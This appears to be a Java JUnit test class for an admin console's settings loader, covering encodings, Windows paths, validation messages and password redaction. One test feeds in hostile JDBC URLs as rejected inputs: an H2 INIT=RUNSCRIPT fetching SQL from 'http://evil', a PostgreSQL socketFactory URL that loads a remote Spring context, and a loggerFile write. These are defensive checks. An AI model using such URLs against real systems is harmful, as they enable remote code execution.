package org.adminconsole.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Settings as operators write them: files in UTF-8 with or without a BOM, Windows paths, secrets kept out of messages. */
class SettingsTest {

    @TempDir Path dir;

    private Settings loadFile(byte[] content) throws Exception {
        Files.write(dir.resolve(Settings.FILE_NAME), content);
        return Settings.load(Map.of("data.dir", dir.toString()));
    }

    @Test
    void aUtf8FileWithAByteOrderMarkIsRead() throws Exception {
        byte[] bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
        byte[] body = "db.seed.users = 42\noperator = Zoë Ünal\n".getBytes(StandardCharsets.UTF_8);
        byte[] all = new byte[bom.length + body.length];
        System.arraycopy(bom, 0, all, 0, bom.length);
        System.arraycopy(body, 0, all, bom.length, body.length);
        Settings s = loadFile(all);
        assertThat(s.get(Keys.DB_SEED_USERS)).isEqualTo(42);
        assertThat(s.operator()).isEqualTo("Zoë Ünal");
    }

    @Test
    void aUtf8PasswordIsReadAsWritten() throws Exception {
        Settings s = loadFile("db.password = pässwörd€\n".getBytes(StandardCharsets.UTF_8));
        assertThat(s.dbPassword()).isEqualTo("pässwörd€");
    }

    @Test
    void windowsPathsAreTakenLiterally() throws Exception {
        Path file = dir.resolve(Settings.FILE_NAME);
        Files.writeString(file, "data.dir = C:\\users\\admin\\console\n");
        Settings s = Settings.load(Map.of("config", file.toString()));
        assertThat(s.get(Keys.DATA_DIR)).isEqualTo("C:\\users\\admin\\console");
    }

    @Test
    void aFileThatIsNotUtf8OrNotSettingsGetsANamedMessage() throws Exception {
        assertThatThrownBy(() -> loadFile(new byte[] {'o', 'p', '=', (byte) 0xE9, 't', 'e', '\n'}))
                .isInstanceOf(SettingsException.class).hasMessageContaining("not UTF-8");
        assertThatThrownBy(() -> loadFile("pool.maxSize 4\n".getBytes(StandardCharsets.UTF_8)))
                .isInstanceOf(SettingsException.class).hasMessageContaining("Line 1").hasMessageContaining("key = value");
        assertThatThrownBy(() -> loadFile("pool.maxSize = 4\npool.maxSize = 5\n".getBytes(StandardCharsets.UTF_8)))
                .isInstanceOf(SettingsException.class).hasMessageContaining("twice");
    }

    @Test
    void unknownSettingsAndBadValuesAreNamedWithTheirOrigin() throws Exception {
        assertThatThrownBy(() -> loadFile("pool.maxSzie = 4\n".getBytes(StandardCharsets.UTF_8)))
                .isInstanceOf(SettingsException.class)
                .hasMessageContaining("Unknown setting 'pool.maxSzie'").hasMessageContaining(Settings.FILE_NAME);
        assertThatThrownBy(() -> Settings.of(Map.of("pool.minIdle", "9", "pool.maxSize", "4")))
                .hasMessageContaining("pool.minIdle").hasMessageContaining("must not exceed pool.maxSize (4)");
        assertThatThrownBy(() -> Settings.of(Map.of("tx.defaultTimeoutSeconds", "0")))
                .hasMessageContaining("tx.defaultTimeoutSeconds = '0'").hasMessageContaining("from 1 to 86400");
    }

    @Test
    void urlOptionsThatRunCodeAreRefused() {
        assertThatThrownBy(() -> Settings.of(Map.of("db.url", "jdbc:h2:file:/tmp/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'")))
                .isInstanceOf(SettingsException.class).hasMessageContaining("INIT");
        assertThatThrownBy(() -> Settings.of(Map.of("db.url",
                "jdbc:postgresql://h/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://x")))
                .isInstanceOf(SettingsException.class).hasMessageContaining("socketFactory");
        assertThatThrownBy(() -> Settings.of(Map.of("db.url", "jdbc:postgresql://h/db?loggerFile=/tmp/x")))
                .hasMessageContaining("loggerFile");
        assertThat(Settings.of(Map.of("db.url", "jdbc:postgresql://h/db?sslmode=require")).isPostgres()).isTrue();
    }

    @Test
    void passwordsComeFromAFileAndNeverAppearInMessages() throws Exception {
        Path secret = dir.resolve("pw.txt");
        Files.writeString(secret, "s3cret-from-file\nignored second line\n");
        Settings s = Settings.of(Map.of("db.password", "${file:" + secret + "}",
                "db.url", "jdbc:postgresql://h/db?user=x&password=inline-pw"));
        assertThat(s.dbPassword()).isEqualTo("s3cret-from-file");
        assertThat(s.displayUrl()).doesNotContain("inline-pw").contains("password=****");
        assertThat(s.redact("login failed for s3cret-from-file at " + s.dbUrl()))
                .doesNotContain("s3cret-from-file").doesNotContain("inline-pw");
        assertThatThrownBy(() -> Settings.of(Map.of("db.password", "${env:ADMINCONSOLE_SURELY_UNSET_VARIABLE}")))
                .isInstanceOf(SettingsException.class).hasMessageContaining("ADMINCONSOLE_SURELY_UNSET_VARIABLE");
        assertThatThrownBy(() -> Settings.of(Map.of("db.password", "${file:" + dir.resolve("missing") + "}")))
                .isInstanceOf(SettingsException.class).hasMessageContaining("cannot be read");
        assertThatThrownBy(() -> Settings.of(Map.of("sql.password", "x", "pool.maxSize", "nope")))
                .hasMessageNotContaining("sql.password = 'x'");
    }

    @Test
    void passwordsComeFromTheEnvironment() {
        String path = System.getenv("PATH");
        Settings s = Settings.of(Map.of("sql.password", "${env:PATH}"));
        assertThat(s.get(Keys.SQL_PASSWORD)).isEqualTo(path);
    }

    @Test
    void theReadmeTableListsEverySettingAsDeclared() throws Exception {
        String readme = Files.readString(Path.of("README.md"));
        String begin = "<!-- settings:begin -->\n";
        String end = "<!-- settings:end -->";
        assertThat(readme).contains(begin).contains(end);
        String table = readme.substring(readme.indexOf(begin) + begin.length(), readme.indexOf(end));
        assertThat(table)
                .as("README settings table; regenerate it with: java -cp target/classes org.adminconsole.config.Keys")
                .isEqualTo(Keys.readmeTable());
    }
}
